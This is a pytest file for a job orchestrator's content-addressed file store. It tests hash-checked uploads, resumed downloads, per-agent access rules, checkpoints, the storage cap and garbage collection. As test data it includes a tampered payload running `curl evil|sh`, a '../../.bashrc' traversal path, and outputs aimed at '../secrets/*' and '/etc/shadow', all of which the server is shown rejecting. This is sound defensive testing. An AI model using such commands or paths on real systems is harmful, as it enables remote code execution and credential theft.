"""The file store and its routes, on both engines (PostgreSQL keeps blobs in the database,
SQLite in files under the data directory): uploads checked against their hash, downloads
resumed, who may fetch and save what, a job's snapshot, outputs and checkpoints, the cap
and the garbage collection."""

from __future__ import annotations

import hashlib
import json
import os
import uuid
from typing import Any

import httpx
import pytest
from pydantic import SecretStr

from chiffon.orchestrator.clock import ManualClock
from chiffon.orchestrator.service import Orchestrator
from chiffon.orchestrator.settings import OrchestratorSettings
from chiffon.schemas.files import Entry, Manifest
from chiffon.transport.orders import order_key, verify
from tests.auth import API_HEADERS, bearer, issue
from tests.conftest import api_client
from tests.jobfleet import desktop

READ_TOKEN = "test-read-token-0123456789"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


async def put(api: httpx.AsyncClient, data: bytes, prefix: str = "/api/v1") -> httpx.Response:
    return await api.put(f"{prefix}/blobs/{sha(data)}", content=data)


async def snapshot(api: httpx.AsyncClient, files: dict[str, bytes]) -> str:
    """Upload `files` and their manifest; the manifest's hash."""
    manifest = Manifest.of(Entry(p, sha(d), len(d)) for p, d in files.items())
    for data in [*files.values(), manifest.to_bytes()]:
        assert (await put(api, data)).status_code == 201
    return manifest.digest


async def test_a_blob_goes_in_once_its_hash_matches_and_comes_back_byte_for_byte(
    orchestrator: Orchestrator,
) -> None:
    data = os.urandom(2 * 1024 * 1024 + 12345)  # three of the database's chunks
    async with api_client(orchestrator, API_HEADERS) as api:
        asked = await api.post("/api/v1/blobs/missing", json={"sha256": [sha(data)]})
        assert asked.json() == {"missing": [sha(data)]}
        stored = await put(api, data)
        assert (stored.status_code, stored.json()) == (
            201,
            {"sha256": sha(data), "size": len(data)},
        )
        assert (await api.post("/api/v1/blobs/missing", json={"sha256": [sha(data)]})).json() == {
            "missing": []
        }
        whole = await api.get(f"/api/v1/blobs/{sha(data)}")
        assert (whole.status_code, whole.content) == (200, data)
        # a transfer cut off past the first chunk resumes where it stopped
        rest = await api.get(f"/api/v1/blobs/{sha(data)}", headers={"range": "bytes=1048570-"})
        assert rest.status_code == 206 and rest.content == data[1048570:]
        assert rest.headers["content-range"] == f"bytes 1048570-{len(data) - 1}/{len(data)}"
        # the same blob again: nothing read, nothing doubled
        assert (await put(api, data)).status_code == 201
    assert await orchestrator.store.used_bytes() == len(data)


async def test_bytes_that_are_not_the_blob_they_claim_are_refused_and_nothing_is_stored(
    orchestrator: Orchestrator,
) -> None:
    real, tampered = b"print('hello')\n", b"import os; os.system('curl evil|sh')\n"
    async with api_client(orchestrator, API_HEADERS) as api:
        resp = await api.put(f"/api/v1/blobs/{sha(real)}", content=tampered)
        assert resp.status_code == 400
        assert resp.json()["detail"] == (
            f"the bytes sent hash to {sha(tampered)}, not {sha(real)}: nothing stored"
        )
        assert (await api.post("/api/v1/blobs/missing", json={"sha256": [sha(real)]})).json()[
            "missing"
        ] == [sha(real)]
        assert (await api.get(f"/api/v1/blobs/{sha(real)}")).status_code == 404
        bad = await api.put(f"/api/v1/blobs/{sha(real).upper()}", content=real)
        assert bad.status_code == 400 and "is not a SHA-256" in bad.json()["detail"]
    assert await orchestrator.store.used_bytes() == 0


@pytest.fixture
def small_store(settings: OrchestratorSettings) -> OrchestratorSettings:
    return settings.model_copy(update={"store_max_gb": 1e-6, "read_token": SecretStr(READ_TOKEN)})


async def test_a_full_store_refuses_an_upload_and_keeps_what_it_has(
    small_store: OrchestratorSettings, clock: ManualClock
) -> None:
    orch = Orchestrator(small_store, clock=clock)
    await orch.start(sweep=False)
    try:
        async with api_client(orch, API_HEADERS) as api:
            kept = os.urandom(600)
            assert (await put(api, kept)).status_code == 201
            resp = await put(api, os.urandom(600))  # 1,200 bytes would pass the 1,000
            assert resp.status_code == 507
            assert resp.json()["detail"].startswith("the file store is full: 600 more bytes")
            assert (await api.get(f"/api/v1/blobs/{sha(kept)}")).content == kept
        assert await orch.store.used_bytes() == 600
        async with api_client(orch, {"authorization": f"Bearer {READ_TOKEN}"}) as reader:
            assert (await reader.get(f"/api/v1/blobs/{sha(kept)}")).content == kept
            assert (await put(reader, b"x")).status_code == 403
            asked = await reader.post("/api/v1/blobs/missing", json={"sha256": []})
            assert asked.status_code == 403
        async with api_client(orch) as stranger:
            assert (await stranger.get(f"/api/v1/blobs/{sha(kept)}")).status_code == 401
            assert (await put(stranger, b"x")).status_code == 401
    finally:
        await orch.stop()


async def test_a_job_runs_only_in_a_snapshot_the_store_holds_whole(
    orchestrator: Orchestrator,
) -> None:
    code = b"print('train')\n"
    half = Manifest.of([Entry("train.py", sha(code), len(code))])
    hostile = json.dumps({"v": 1, "files": [
        {"path": "../../.bashrc", "sha256": sha(code), "size": len(code)}]}).encode()  # fmt: skip
    async with api_client(orchestrator, API_HEADERS) as api:
        job = {"command": ["python", "train.py"]}
        resp = await api.post("/api/v1/jobs", json={**job, "snapshot": half.digest})
        assert resp.status_code == 422 and "is not in the store" in resp.json()["detail"]
        await put(api, half.to_bytes())
        resp = await api.post("/api/v1/jobs", json={**job, "snapshot": half.digest})
        assert resp.status_code == 422
        assert "1 of the files manifest" in resp.json()["detail"]
        await put(api, hostile)
        resp = await api.post("/api/v1/jobs", json={**job, "snapshot": sha(hostile)})
        assert resp.status_code == 422 and "'../../.bashrc'" in resp.json()["detail"]
        resp = await api.post("/api/v1/jobs", json={**job, "outputs": ["../secrets/*"]})
        assert resp.status_code == 422 and "'..'" in resp.json()["detail"]
        await put(api, code)
        resp = await api.post("/api/v1/jobs", json={
            **job, "snapshot": half.digest, "outputs": ["results/**", "model.pt"],
            "checkpoint_every_seconds": 600})  # fmt: skip
        assert resp.status_code == 201, resp.text
        view = resp.json()["job"]
        assert view["snapshot"] == half.digest and view["outputs"] == ["results/**", "model.pt"]
        assert (await api.get(f"/api/v1/jobs/{view['job_id']}/files")).json() == {
            "job_id": view["job_id"], "snapshot": half.digest, "outputs": None, "checkpoint": None
        }  # fmt: skip


async def _placed(
    orch: Orchestrator, clock: ManualClock, desk: httpx.AsyncClient, agent: uuid.UUID, secret: str
) -> tuple[str, int, dict[str, Any]]:
    """The assignment the agent is told now: (job id, attempt, payload)."""
    await orch.dispatcher.tick()
    [order] = (await desk.get(f"/api/v1/agents/{agent}/orders")).json()["orders"]
    opened = verify(order["body"].encode(), order["signature"], key=order_key(secret),
                    agent_id=agent, now=clock.now().timestamp())  # fmt: skip
    return str(opened.job_id), opened.attempt, dict(opened.payload)


async def test_an_agent_fetches_only_its_attempts_files_and_the_next_attempt_resumes(
    orchestrator: Orchestrator, clock: ManualClock
) -> None:
    a, b = uuid.uuid4(), uuid.uuid4()
    await desktop(orchestrator, "a", (24.0, 24.0), agent=a)
    await desktop(orchestrator, "b", (8.0, 8.0), agent=b)  # too small for the job, for now
    cred_a, cred_b = await issue(orchestrator, a), await issue(orchestrator, b)
    code, other = b"for step in range(10): pass\n", b"someone else's data\n"
    async with (
        api_client(orchestrator, API_HEADERS) as user,
        api_client(orchestrator, bearer(cred_a)) as desk_a,
        api_client(orchestrator, bearer(cred_b)) as desk_b,
    ):
        snap = await snapshot(user, {"train.py": code})
        await put(user, other)
        job = {"command": ["python", "train.py"], "snapshot": snap, "retries": 1,
               "outputs": ["model.pt"], "requirements": {"gpus": 1, "vram_gb": 20}}  # fmt: skip
        job_id = (await user.post("/api/v1/jobs", json=job)).json()["job"]["job_id"]
        placed, attempt, payload = await _placed(orchestrator, clock, desk_a, a, cred_a.secret)
        assert (placed, attempt, payload["snapshot"], payload["checkpoint"]) == (
            job_id, 1, snap, None)  # fmt: skip
        mine = f"/api/v1/agents/{a}/attempts/{job_id}/1"
        assert (await desk_a.get(f"{mine}/blobs/{snap}")).status_code == 200
        assert (await desk_a.get(f"{mine}/blobs/{sha(code)}")).content == code
        # another job's blob, through this attempt: no
        assert (await desk_a.get(f"{mine}/blobs/{sha(other)}")).status_code == 404
        # another agent, naming this attempt: no
        theirs = f"/api/v1/agents/{b}/attempts/{job_id}/1"
        assert (await desk_b.get(f"{theirs}/blobs/{sha(code)}")).status_code == 409
        assert (await desk_b.get(f"{mine}/blobs/{sha(code)}")).status_code == 401
        # the attempt saves a checkpoint (step 7) and an output
        step, model = b"7", b"weights"
        for data in (step, model):
            assert (await desk_a.put(f"{mine}/blobs/{sha(data)}", content=data)).status_code == 201
        cp = Manifest.of([Entry("step", sha(step), 1)])
        out = Manifest.of([Entry("model.pt", sha(model), len(model))])
        for m in (cp, out):
            await desk_a.put(f"{mine}/blobs/{m.digest}", content=m.to_bytes())
        said = await desk_a.post(
            f"{mine}/files", json={"kind": "checkpoint", "manifest": cp.digest}
        )
        assert said.json() == {"verdict": "applied"}
        said = await desk_a.post(f"{mine}/files", json={"kind": "output",
                                                        "manifest": out.digest})  # fmt: skip
        assert said.json() == {"verdict": "applied"}
        unstored = Manifest.of([Entry("x", sha(b"never sent"), 10)])
        await desk_a.put(f"{mine}/blobs/{unstored.digest}", content=unstored.to_bytes())
        said = await desk_a.post(f"{mine}/files", json={"kind": "output",
                                                        "manifest": unstored.digest})  # fmt: skip
        assert said.status_code == 422 and "not in the store" in said.json()["detail"]
        files = (await user.get(f"/api/v1/jobs/{job_id}/files")).json()
        assert files["outputs"]["entries"] == [
            {"path": "model.pt", "sha256": sha(model), "size": len(model), "exec": False}
        ]
        assert (files["checkpoint"]["attempt"], files["checkpoint"]["bytes"]) == (1, 1)
        # a is lost: the job is placed on b, whose order restores attempt 1's checkpoint
        await desk_a.post(mine, json={"kind": "started"})
        clock.advance(1)
        await desk_a.post(mine, json={"kind": "ended", "outcome": "lost", "detail": "gone"})
        clock.advance(1)
        await desktop(orchestrator, "a", (24.0, 24.0), agent=a, accepts=False)  # a's owner is back
        await desktop(orchestrator, "b", (24.0, 24.0), agent=b)  # b's owner closed a game
        placed, attempt, payload = await _placed(orchestrator, clock, desk_b, b, cred_b.secret)
        assert (placed, attempt, payload["checkpoint"]) == (job_id, 2, cp.digest)
        again = f"/api/v1/agents/{b}/attempts/{job_id}/2"
        assert (await desk_b.get(f"{again}/blobs/{sha(step)}")).content == step
        # attempt 1 is no longer current: its late save is stale
        said = await desk_a.post(
            f"{mine}/files", json={"kind": "checkpoint", "manifest": cp.digest}
        )
        assert said.json() == {"verdict": "stale"}
        await desk_b.post(again, json={"kind": "started"})
        shown = (await user.get(f"/api/v1/jobs/{job_id}")).json()
    assert [(t["attempt"], t["resumed_from"], t["resumed_bytes"]) for t in shown["attempts"]] == [
        (1, None, None), (2, 1, 1)]  # fmt: skip


async def test_blobs_no_live_job_refers_to_are_collected_after_the_retention(
    orchestrator: Orchestrator, clock: ManualClock
) -> None:
    code, stray = b"print(1)\n", b"uploaded, never used\n"
    async with api_client(orchestrator, API_HEADERS) as api:
        snap = await snapshot(api, {"a.py": code})
        await put(api, stray)
        resp = await api.post(
            "/api/v1/jobs", json={"command": ["python", "a.py"], "snapshot": snap}
        )
        assert resp.status_code == 201
        assert await orchestrator.store.collect() == 0  # all within the retention
        clock.advance(orchestrator.settings.store_retention_seconds + 1)
        assert await orchestrator.store.collect() == 1  # the stray; the queued job's stay
        missing = await api.post("/api/v1/blobs/missing",
                                 json={"sha256": [snap, sha(code), sha(stray)]})  # fmt: skip
        assert missing.json() == {"missing": [sha(stray)]}
        assert (await api.get(f"/api/v1/blobs/{sha(code)}")).content == code


async def test_among_equally_good_desktops_the_one_that_has_the_snapshot_wins(
    orchestrator: Orchestrator, clock: ManualClock
) -> None:
    # b's id sorts first, so a tie between the two goes to b unless a's cache decides it
    a, b = uuid.UUID(int=2**128 - 1), uuid.UUID(int=1)
    await desktop(orchestrator, "a", (24.0, 24.0), agent=a, pool="studio")
    await desktop(orchestrator, "b", (24.0, 24.0), agent=b, pool="lab")
    cred_a, cred_b = await issue(orchestrator, a), await issue(orchestrator, b)
    async with (
        api_client(orchestrator, API_HEADERS) as user,
        api_client(orchestrator, bearer(cred_a)) as desk_a,
        api_client(orchestrator, bearer(cred_b)) as desk_b,
    ):
        snap = await snapshot(user, {"train.py": b"print(1)\n"})
        other = await snapshot(user, {"eval.py": b"print(2)\n"})
        first = {"command": ["python", "train.py"], "snapshot": snap,
                 "requirements": {"gpus": 1, "vram_gb": 8, "pool": "studio"}}  # fmt: skip
        job_id = (await user.post("/api/v1/jobs", json=first)).json()["job"]["job_id"]
        assert (await _placed(orchestrator, clock, desk_a, a, cred_a.secret))[0] == job_id
        url = f"/api/v1/agents/{a}/attempts/{job_id}/1"
        assert (await desk_a.get(f"{url}/blobs/{snap}")).status_code == 200  # a's cache has it
        await desk_a.post(url, json={"kind": "started"})
        await desk_a.post(url, json={"kind": "ended", "outcome": "exit", "exit_code": 0})
        clock.advance(1)
        anywhere = {"gpus": 1, "vram_gb": 16}  # one such job per GPU
        cold = await user.post(
            "/api/v1/jobs",
            json={"command": ["python", "eval.py"], "snapshot": other, "requirements": anywhere},
        )
        await orchestrator.dispatcher.tick()
        cold_id = cold.json()["job"]["job_id"]
        cold_view = (await user.get(f"/api/v1/jobs/{cold_id}")).json()
        url = f"/api/v1/agents/{b}/attempts/{cold_id}/1"  # it ends: b is free again
        await desk_b.post(url, json={"kind": "started"})
        await desk_b.post(url, json={"kind": "ended", "outcome": "exit", "exit_code": 0})
        again = await user.post(
            "/api/v1/jobs",
            json={"command": ["python", "train.py"], "snapshot": snap, "requirements": anywhere},
        )
        clock.advance(1)
        await orchestrator.dispatcher.tick()
        warm_view = (await user.get(f"/api/v1/jobs/{again.json()['job']['job_id']}")).json()
    # a tie goes to b by its id; the job whose files a holds goes to a
    assert (cold_view["agent_id"], warm_view["agent_id"]) == (str(b), str(a))
    assert warm_view["attempts"][0]["snapshot_cached"] is True
    assert cold_view["attempts"][0]["snapshot_cached"] is False


async def test_which_of_100000_hashes_are_missing_is_one_ask_and_a_bigger_body_is_refused(
    orchestrator: Orchestrator,
) -> None:
    hashes = [hashlib.sha256(str(i).encode()).hexdigest() for i in range(100_000)]
    async with api_client(orchestrator, API_HEADERS) as api:
        asked = await api.post("/api/v1/blobs/missing", json={"sha256": hashes})
        assert asked.status_code == 200 and len(asked.json()["missing"]) == 100_000
        too_big = await api.post("/api/v1/blobs/missing", content=b" " * (9 * 1024 * 1024),
                                 headers={"content-type": "application/json"})  # fmt: skip
        assert too_big.status_code == 413
        # elsewhere the API's own limit stands
        job = await api.post("/api/v1/jobs", content=b" " * (128 * 1024),
                             headers={"content-type": "application/json"})  # fmt: skip
        assert job.status_code == 413


async def test_a_python_env_is_built_from_the_jobs_own_folder_never_a_workdir(
    orchestrator: Orchestrator,
) -> None:
    async with api_client(orchestrator, API_HEADERS) as api:
        job = {"command": ["python", "x.py"], "python_env": True, "workdir": "/srv/x"}
        resp = await api.post("/api/v1/jobs", json=job)
    assert resp.status_code == 422 and "not of a workdir" in resp.json()["detail"]
    # nor are outputs read from one: the agent, root perhaps, would send `/etc/shadow`
    async with api_client(orchestrator, API_HEADERS) as api:
        job = {"command": ["true"], "workdir": "/etc", "outputs": ["shadow"]}
        resp = await api.post("/api/v1/jobs", json=job)
    assert resp.status_code == 422 and "not from a workdir" in resp.json()["detail"]
